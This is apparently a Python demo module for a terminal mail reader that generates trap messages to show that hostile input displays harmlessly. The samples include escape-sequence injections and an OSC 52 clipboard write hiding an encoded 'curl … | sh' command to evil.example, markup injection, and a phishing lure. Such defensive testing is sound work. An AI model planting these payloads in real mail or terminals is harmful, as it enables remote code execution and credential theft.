"""Demo messages that try to break a mail reader: Rich markup in subjects, terminal escape
sequences (colour, screen clear, window title, an OSC 52 clipboard write), a 1200-character
line, broken base64, a message with no MIME headers, and a phishing mail failing DMARC.
The demo shows mailtui displays all of them as inert text.
"""

from __future__ import annotations

from datetime import datetime, timedelta

from mailtui.demo.messages import ADMIN
from mailtui.demo.mime import DemoMessage, Part, addr, enc_q, inbox_message, mid_for, text_part


def trap_messages(base: datetime) -> list[DemoMessage]:
    """Messages that try to break the UI or the decoder; the demo shows they do not."""
    out = []
    t = base - timedelta(days=2, hours=5)
    body = (
        "Rich markup in subjects like [bold]this[/bold] or [/PATCH] must be shown literally.\n\n"
        "--- a/mailtui/ui/widgets/message_index.py\n+++ b/mailtui/ui/widgets/message_index.py\n"
        '@@ -10,7 +10,7 @@\n-        label = f"[b]{subject}[/b]"\n+        label = Text(subject)\n'
        "\n[link=https://evil.example/]click me[/link] [red on white]not red[/]\n"
    )
    out.append(
        inbox_message(
            t,
            frm=addr("Dev [bot]", "patches@lists.demo.test"),
            to="ops-dev@lists.demo.test",
            subject="[PATCH v3 2/7] ui: escape [bold] and [/PATCH] markup in subjects",
            mid=mid_for(t, "markup", "lists.demo.test"),
            content=text_part(body, cte="8bit"),
            extra=[("List-Id", "Ops development <ops-dev.lists.demo.test>")],
            hop=("lists.demo.test", "10.0.0.20"),
        )
    )

    # Terminal escape sequences: colour, screen clear, window title and an OSC 52 clipboard write.
    t = base - timedelta(hours=7, minutes=31)
    body = (
        "\x1b[31mThis line asks the terminal to turn red.\x1b[0m\n"
        "\x1b]0;window title hijacked\x07"
        "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaAo=\x07"
        "The sequence before this text tries to put a shell command into your clipboard (OSC 52).\n"
        "\x1b[2J\x1b[HAnd this one tries to clear the screen.\n"
    )
    out.append(
        inbox_message(
            t,
            frm=addr("Accounts Payable", "ap@invoices.example"),
            to=ADMIN,
            subject=enc_q("\x1b[31mURGENT\x1b[0m invoice overdue \x1b]0;pwned\x07"),
            mid=mid_for(t, "escape", "invoices.example"),
            content=text_part(body, cte="8bit"),
            extra=[("X-Mailer", b"\x1b[5mBlinkMailer\x1b[0m 1.0")],
            hop=("smtp.invoices.example", "203.0.113.66"),
            flags="",
            new=True,
        )
    )

    t = base - timedelta(days=11, hours=2)
    payload = (
        '{"receiver":"ops","status":"firing","alerts":['
        + ",".join(
            f'{{"labels":{{"alertname":"HostHighCpuLoad","instance":"web0{i % 2 + 1}:9100","severity":"warning"}},'
            f'"startsAt":"2026-11-05T0{i % 10}:00:00Z"}}'
            for i in range(9)
        )
        + "]}"
    )
    payload = (payload + " " * 1200)[:1200]
    body = "Alertmanager webhook relay could not post; raw payload follows:\n\n" + payload + "\n"
    out.append(
        inbox_message(
            t,
            frm=addr("Alertmanager", "alertmanager@mon01.demo.test"),
            to=ADMIN,
            subject="[FIRING:9] HostHighCpuLoad (raw webhook payload)",
            mid=mid_for(t, "longline", "mon01.demo.test"),
            content=text_part(body, cte="7bit"),
            hop=("mon01.demo.test", "10.0.0.5"),
        )
    )

    t = base - timedelta(days=13, hours=8)
    broken = (
        b"VGhpcyBzY2FubmVkIGRvY3VtZW50IGhhcyBhIGJyb2tlbiB0cmFuc2Zlci1lbmNvZGluZy4K\n"
        b"SXQgd2FzIGN1dCBvZmYgaW4gdGhlIG1p!!ZGRsZSBvZiBh**IGxpbmUgYW5kIGhhcyBiYWQgY2hh\n"
        b"cmFjdGVycy4K\nVGhlIGxhc3QgbGluZSBoYXMgbm8gcGFkZGluZw\n"
    )
    bad: Part = (
        [("Content-Type", 'text/plain; charset="utf-8"'), ("Content-Transfer-Encoding", "base64")],
        broken,
    )
    out.append(
        inbox_message(
            t,
            frm=addr("MFP 2OG Scanner", "scanner@demo.test"),
            to=ADMIN,
            subject="Scanned document (broken base64)",
            mid=mid_for(t, "badb64", "demo.test"),
            content=bad,
            hop=("mfp-2og.demo.test", "10.0.2.40"),
        )
    )

    # No MIME headers at all, UTF-8 bytes in the body: what many shell scripts send.
    t = base - timedelta(days=15, hours=1)
    raw = (
        f"Return-Path: <root@backup01.demo.test>\nDate: {t:%a, %d %b %Y %H:%M:%S +0000}\n"
        "From: root@backup01.demo.test (root)\nTo: admin@demo.test\nSubject: backup report backup01\n"
        f"Message-ID: {mid_for(t, 'nomime', 'backup01.demo.test')}\n\n"
        "✓ 14 databases dumped\n✓ 812 GiB rsynced to offsite — 0 errors\n✗ /srv/old-share skipped (gone)\n"
    ).encode()
    out.append(DemoMessage("", t, raw))

    t = base - timedelta(hours=19, minutes=44)
    body = (
        "Dear user,\n\nyour mailbox quota is 99% full. Verify your account within 24 hours\n"
        "or your messages will be deleted: http://demo-test.example/verify\n\nIT Helpdesk\n"
    )
    out.append(
        inbox_message(
            t,
            frm=addr("IT Helpdesk", "helpdesk@demo-test.example"),
            to=ADMIN,
            subject="Your mailbox quota is full - verify now",
            mid=mid_for(t, "phish", "demo-test.example"),
            content=text_part(body, cte="7bit"),
            hop=("vps-1931.cheap-hosting.example", "203.0.113.200"),
            extra=[
                (
                    "Authentication-Results",
                    "mx.demo.test;\n\tspf=fail smtp.mailfrom=demo-test.example;\n\t"
                    "dkim=none;\n\tdmarc=fail (p=none) header.from=demo-test.example",
                )
            ],
            flags="",
        )
    )
    return out
